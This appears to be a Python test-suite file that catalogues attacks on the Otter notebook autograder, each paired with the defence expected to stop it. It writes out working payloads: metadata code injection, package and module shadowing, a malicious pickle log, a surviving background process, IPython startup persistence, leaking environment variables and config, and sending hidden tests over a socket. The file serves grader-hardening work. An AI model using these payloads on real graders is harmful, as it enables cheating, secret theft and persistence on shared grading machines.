"""Cheats with what lies around the notebook: its metadata, files that are handed in with it, the machine that grades."""

from __future__ import annotations

from beside_otter.cheats.cheat import Gain, add

POINTS, TEXT, CODE = Gain.POINTS, Gain.TEXT, Gain.CODE

add(
    "hides-code-in-metadata", "metadata", "exceptions", POINTS,
    "The name of a test in a cell's metadata is put into a line of code: what stands behind a quotation mark in it runs, and is in no cell.",
    "Metadata of a submission decides nothing.",
    cell_metadata={
        "otter": {
            "tests": ['q1" if not exec("import otter.test_files.exception_test as t; t.test_case.call_func = lambda *_: None") else "q1'],
        }
    },
)  # fmt: skip

add(
    "asks-for-an-early-check", "metadata", "exceptions", POINTS,
    "A cell's metadata has the question checked there, while a function stands in for the answer; the cell after it looks honest.",
    "Metadata of a submission decides nothing.",
    before="""
class Everything:
    def __eq__(self, other): return True
def slope(x):
    return Everything()
""",
    cell_metadata={"otter": {"tests": ["q1"]}},
)  # fmt: skip

add(
    "shadows-a-package", "shadowed", "exceptions", POINTS,
    "An `otter.py` in the zip is imported by otter's own first cell in the place of the package.",
    "What a zip has beside its notebook is in the sandbox at most, where nothing decides a score.",
    beside={
        "otter.py": """
import os, sys
sys.path[:] = [path for path in sys.path if path not in ("", os.getcwd())]
del sys.modules["otter"]
import otter
from otter.test_files.exception_test import test_case
test_case.call_func = lambda self, names: None
"""
    },
    cold_kernel=True,
)  # fmt: skip

add(
    "shadows-a-folder", "shadowed", "exceptions", POINTS,
    "A folder of the course's `files/` is not copied when the zip has one of its name: the tests import the student's.",
    "The tests import from a folder of their own, with the course's files.",
    beside={"checks/__init__.py": "", "checks/closeness.py": "def close(one, other):\n    return True\n"},
)  # fmt: skip

add(
    "rewrites-the-courses-files", "shadowed", "exceptions", POINTS,
    "A cell writes over a module of the course's `files/` that the tests import afterwards.",
    "A notebook has copies; the tests have their own.",
    after="""
import os
os.makedirs("checks", exist_ok=True)
with open("checks/closeness.py", "w") as module:
    module.write("def close(one, other):\\n    return True\\n")
""",
)  # fmt: skip

add(
    "hides-code-in-the-log", "log", "exceptions", CODE,
    "The log in the zip runs code when the grader unpickles it, which it does for every submission.",
    "A log is not opened.",
    beside={
        ".OTTER_LOG": "c__builtin__\nexec\n(Vopen('@MARK@', 'w').write(' '.join(__import__('sys').argv[:2]))\ntR.",
    },
    by_otter=True,
)  # fmt: skip

add(
    "outlives-its-kernel", "survivors", "exceptions", CODE,
    "A process that the notebook has started goes on when the kernel has ended.",
    "All processes of a submission end with it.",
    after="""
import os, time
kernel = os.getpid()
if os.fork() == 0:
    try:
        os.setsid()
        until = time.monotonic() + 15
        while time.monotonic() < until:
            time.sleep(0.02)
            try:
                os.kill(kernel, 0)
            except ProcessLookupError:
                with open("@MARK@", "w") as mark:
                    mark.write("still here")
                break
    finally:
        os._exit(0)
""",
)  # fmt: skip

add(
    "stays-for-the-next", "unconfined", "exceptions", CODE,
    "Writes into IPython's startup folder in the grader's home: it runs in every later submission's kernel.",
    "Where a notebook may write is its own, and removed with it.",
    after="""
import os
startup = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(startup, exist_ok=True)
with open(os.path.join(startup, "00-first.py"), "w") as program:
    program.write("open('@MARK@', 'w').close()")
""",
    by_the_next=True,
)  # fmt: skip

add(
    "tells-the-environment", "unconfined", "exceptions", TEXT,
    "Says in a message what the grader has in its environment, tokens among it.",
    "The environment of student code is made for it.",
    after="""
import os
def middle(values):
    raise AssertionError(dict(os.environ))
""",
    says="canary-of-the-environment",
)  # fmt: skip

add(
    "tells-the-config", "unconfined", "exceptions", TEXT,
    "Says in a message what lies in the bundle's folder beside its own.",
    "The bundle is in no folder that the notebook can see.",
    after="""
def middle(values):
    raise AssertionError(open("../source/otter_config.json").read())
""",
    says="canary-of-the-config",
)  # fmt: skip

add(
    "tells-a-server", "unconfined", "exceptions", TEXT,
    "Sends the hidden tests to a server.",
    "A notebook has no network.",
    after="""
import pathlib, socket
said = "".join(path.read_text() for path in pathlib.Path("tests").glob("q*.py")) or "nothing"
with socket.create_connection(("127.0.0.1", @PORT@), 5) as connection:
    connection.sendall(said.encode())
""",
    says="canary-of-a-hidden-test",
)  # fmt: skip
